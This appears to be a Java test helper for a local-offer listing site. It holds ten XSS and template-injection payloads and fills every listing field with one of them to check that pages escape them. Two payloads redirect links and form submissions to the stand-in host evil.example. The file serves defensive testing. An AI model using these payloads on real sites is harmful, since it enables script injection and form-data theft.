package localoffer;

import java.util.List;
import localoffer.listing.Details;
import localoffer.listing.DetailsJson;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Words that would do harm if a page took them for anything but words. */
public final class Payloads {

  /** Each begins with a word that is looked for on the page. */
  public static final List<String> ALL =
      List.of(
          "Pay1 <script>window.harmed = 1</script>",
          "Pay2 <img src=x onerror=window.harmed=2>",
          "Pay3 \"><svg onload=window.harmed=3><animate onbegin=window.harmed=3>",
          "Pay4 ' onfocus='window.harmed=4' autofocus='",
          "Pay5 [press](javascript:window.harmed=5) ![x](data:text/html,x)",
          "Pay6 {{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %>",
          "Pay7 </textarea></title></style><iframe srcdoc='<script>parent.harmed=7</script>'>",
          "Pay8 <a href=\"javascript:window.harmed=8\">x</a> <base href=//evil.example/>",
          "Pay9 <!-- --><![CDATA[ ]]> &lt;b&gt; &#x3C;script&#x3E; \\u003cscript\\u003e",
          "Pay10 <form action=//evil.example><input name=csrf><button formaction=//evil.example>");

  private Payloads() {}

  /** The details with a payload in every text, so far as what kind of text it is lets one. */
  public static Details in(Details details, String payload) {
    ObjectNode tree = (ObjectNode) JsonMapper.shared().readTree(DetailsJson.write(details));
    for (String field :
        List.of(
            "name",
            "summary",
            "description",
            "eligibility",
            "how_to_apply",
            "what_happens_next",
            "waiting_time",
            "who_decides")) {
      tree.put(field, payload);
    }
    ObjectNode answers = tree.putObject("send_answers");
    List.of("how_we_include", "staff_training", "communication", "families_say")
        .forEach(field -> answers.put(field, payload));
    tree.putObject("cost")
        .put("help", payload)
        .putArray("amounts")
        .addObject()
        .put("what", payload)
        .put("pounds", 3);
    part(tree, "sessions").put("when", payload);
    part(tree, "contacts").put("role", payload).put("hours", payload).put("phone", "01632 960000");
    ObjectNode place = part(tree, "places").put("name", payload);
    place.putArray("address").add(payload);
    part(tree, "links").put("title", payload).put("href", "https://www.example.org/");
    tree.putArray("questions").add(payload).add(payload);
    return DetailsJson.readStrictly(tree);
  }

  private static ObjectNode part(ObjectNode tree, String list) {
    JsonNode made = tree.putArray(list);
    return ((ArrayNode) made).addObject();
  }
}
